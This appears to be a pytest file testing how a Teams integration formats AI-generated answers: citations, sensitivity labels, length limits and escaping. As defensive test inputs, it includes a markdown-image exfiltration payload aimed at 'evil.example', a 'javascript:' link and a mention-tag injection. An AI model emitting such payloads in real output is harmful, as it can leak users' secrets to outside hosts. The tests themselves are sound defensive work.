"""Messages: an answer says what it is, where it is from, and no more than a message may."""

import random
from typing import Any

import pytest
from markdown_it import MarkdownIt

from charter.channels.teams import messages
from charter.channels.teams.incoming import Account
from charter.channels.teams.speech import speech_of
from charter.governance.labels import NOBODY, Label
from tests.teams.card_samples import HOSTILE, PAGE, run

ENGLISH = speech_of("en")
READ = MarkdownIt("commonmark", {"html": True})
GUID = "9f1c2d3e-0000-4000-8000-1234567890ab"


def citation(n: int, **changed: Any) -> dict[str, Any]:
    given = {
        "n": n,
        "document_id": f"d{n}",
        "passage_id": f"p{n}",
        "title": f"Policy {n}",
        "url": "",
        "start": 0,
        "end": 9,
    }
    return given | changed


def answered(text: str, *cited: dict[str, Any], untrusted: bool = False, **given: Any) -> dict[str, Any]:
    output = {"text": text, "citations": list(cited), "contains_untrusted": untrusted}
    return messages.answer(ENGLISH, run(status="completed", output=output), **given)


def claims(body: dict[str, Any]) -> list[dict[str, Any]]:
    return body["entities"][0].get("citation", [])


@pytest.mark.promise("teams.answer")
def test_an_answer_is_marked_as_a_models_and_asks_whether_it_helped() -> None:
    body = answered("30 days [1].", citation(1))
    assert body["text"] == "30 days [1]."
    assert body["textFormat"] == "markdown"
    assert [entity["type"] for entity in body["entities"]] == ["https://schema.org/Message"]
    assert body["entities"][0]["additionalType"] == ["AIGeneratedContent"]
    assert body["channelData"] == {"feedbackLoop": {"type": "default"}}


@pytest.mark.promise("teams.answer")
def test_only_what_the_text_cites_is_cited_with_a_title_an_excerpt_and_a_link() -> None:
    cited = (citation(1), citation(2), citation(3, title="T" * 300))
    body = answered(
        "One [1]. Three [3]. Strange [9].",
        *cited,
        url_of=lambda c: f"{PAGE}/{c['n']}",
        excerpt_of=lambda c: "word " * 100,
    )
    assert [claim["position"] for claim in claims(body)] == [1, 3]
    first, third = (claim["appearance"] for claim in claims(body))
    assert (first["name"], first["url"]) == ("Policy 1", f"{PAGE}/1")
    assert len(first["abstract"]) <= 160
    assert len(third["name"]) == 80
    many = answered(" ".join(f"[{n}]" for n in range(1, 40)), *(citation(n) for n in range(1, 40)))
    assert len(claims(many)) == 20


def test_a_citation_leads_only_to_the_web_and_always_has_a_title_and_an_excerpt() -> None:
    body = answered("[1]", citation(1, title=None), url_of=lambda _: "javascript:alert(1)")
    assert claims(body)[0]["appearance"] == {
        "@type": "DigitalDocument",
        "name": "Untitled",
        "abstract": "The passage opens in the console.",
    }


@pytest.mark.promise("teams.answer")
def test_an_answer_says_who_may_read_it_and_that_it_rests_on_content_from_outside() -> None:
    body = answered("Salaries.", sensitivity=Label("untrusted", ("role:hr", "user:bob"), ("mail",)))
    assert body["entities"][0]["usageInfo"]["name"] == "Confidential"
    assert "Only for anyone with the role hr or bob." in body["entities"][0]["usageInfo"]["description"]
    assert "content from outside" in body["text"]
    assert "content from outside" in answered("x", untrusted=True)["text"]
    assert "usageInfo" not in answered("x")["entities"][0]
    assert "content from outside" not in answered("x")["text"]
    shut = answered("x", sensitivity=Label(readers=(NOBODY,)))["entities"][0]["usageInfo"]["description"]
    assert "pass it on to nobody" in shut


@pytest.mark.promise("teams.names")
def test_an_answer_names_no_reader_by_an_id() -> None:
    readers = (f"group:{GUID}", f"user:{GUID}", f"user:{GUID[:-1]}c")
    told = answered("x", sensitivity=Label(readers=readers))["entities"][0]["usageInfo"]["description"]
    assert told.startswith("Only for the members of a group or a colleague.")


def test_the_sdk_reads_an_answer_as_it_was_meant() -> None:
    entity = pytest.importorskip("microsoft_teams.api.models.entity.citation_entity")
    body = answered("[1]", citation(1), url_of=lambda _: PAGE, sensitivity=Label(readers=("role:hr",)))
    read = entity.CitationEntity.model_validate(body["entities"][0])
    assert read.citation[0].appearance.url == PAGE
    assert read.model_dump(by_alias=True, exclude_none=True)["citation"][0]["appearance"]["name"] == "Policy 1"


@pytest.mark.promise("teams.answer.limits")
@pytest.mark.parametrize(
    "text", ["A sentence of an answer.\n\n" * 9000, "字" * 60_000, "\U0001f600" * 60_000, '"\n' * 60_000]
)
def test_a_long_answer_is_cut_where_a_part_ends_and_leads_to_the_whole(text: str) -> None:
    cited = [citation(n, title="T" * 80) for n in range(1, 21)]
    body = answered(
        "".join(f"[{n}]" for n in range(1, 21)) + text, *cited, url_of=lambda _: PAGE + "x" * 500, run_url=PAGE
    )
    assert messages.size(body) <= 80_000
    assert body["text"].endswith(f"longer than a message may be. [The whole answer is in the console]({PAGE}).")
    assert len(claims(body)) == 20
    if text.startswith("A"):
        assert body["text"].split("\n\n")[-2] == "A sentence of an answer."


@pytest.mark.promise("teams.answer.limits")
def test_any_message_can_be_brought_within_the_limits() -> None:
    body = messages.within_limits(messages.plain("word " * 50_000), ENGLISH)
    assert messages.size(body) <= 80_000
    assert body["text"].endswith("The whole answer is in Charter's console.")
    small = messages.plain("hello")
    assert messages.within_limits(small, ENGLISH) == small


@pytest.mark.promise("teams.answer.limits")
def test_a_cut_closes_the_block_of_code_it_falls_into() -> None:
    text, whole = messages.shortened("```\n" + "x = 1\n" * 500, 300)
    assert not whole
    assert text.endswith("x = 1\n```")


@pytest.mark.promise("teams.answer.tame")
def test_a_models_text_fetches_nothing_and_has_no_tags() -> None:
    text = "![p](https://evil.example/?q=secret) <img src=https://evil.example> <at>bob</at> </at> a < b ![r][x]\n\n[x]: https://evil.example"
    body = answered(text)
    rendered = READ.render(body["text"])
    for forbidden in ("<img", "<at", "</at"):
        assert forbidden not in rendered
    assert "a < b" in body["text"]


@pytest.mark.promise("teams.answer.tame")
@pytest.mark.parametrize("seed", range(50))
def test_what_is_tamed_of_a_beginning_begins_what_is_tamed_of_the_whole(seed: int) -> None:
    dice = random.Random(seed)
    text = "".join(dice.choice(("!", "[", "<", "at>", "/", "a", " ", "\n", "```", "](x)")) for _ in range(200))
    whole = messages.tame(text)
    assert all(whole.startswith(messages.tame(text[:end])) for end in range(len(text) + 1))


@pytest.mark.promise("teams.cards.hostile")
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_an_escaped_text_is_read_as_it_is(text: str) -> None:
    tokens = READ.parse(messages.escaped(text))
    inner = [child for token in tokens for child in token.children or ()]
    assert {token.type for token in tokens} <= {"paragraph_open", "inline", "paragraph_close"}
    assert {child.type for child in inner} <= {"text", "softbreak", "text_special", "hardbreak"}


@pytest.mark.promise("teams.cards.hidden")
def test_a_plain_message_shows_what_hides() -> None:
    assert messages.plain("a\u202eb")["text"] == "a⟨U+202E⟩b"
    assert messages.plain("a")["textFormat"] == "plain"


def test_a_mention_names_exactly_that_person() -> None:
    body = messages.mentioning(messages.plain("*done*"), Account("29:bob", "bob", "Bob </at><at>Eve"))
    (mention,) = body["entities"]
    assert mention["mentioned"] == {"id": "29:bob", "name": "Bob </at><at>Eve"}
    assert body["text"].startswith(f"{mention['text']} ")
    assert body["text"].count("<at>") == 1
    assert "<em>" not in READ.render(body["text"])


def test_a_card_goes_with_a_summary_for_the_notification() -> None:
    body = messages.with_card({"type": "AdaptiveCard"}, "Your approval is asked")
    assert body["attachments"] == [{"contentType": messages.CARD, "content": {"type": "AdaptiveCard"}}]
    assert body["summary"] == "Your approval is asked"
    other = {"contentType": "application/vnd.microsoft.card.oauth", "content": {}}
    assert messages.with_card(other, "x")["attachments"] == [other]
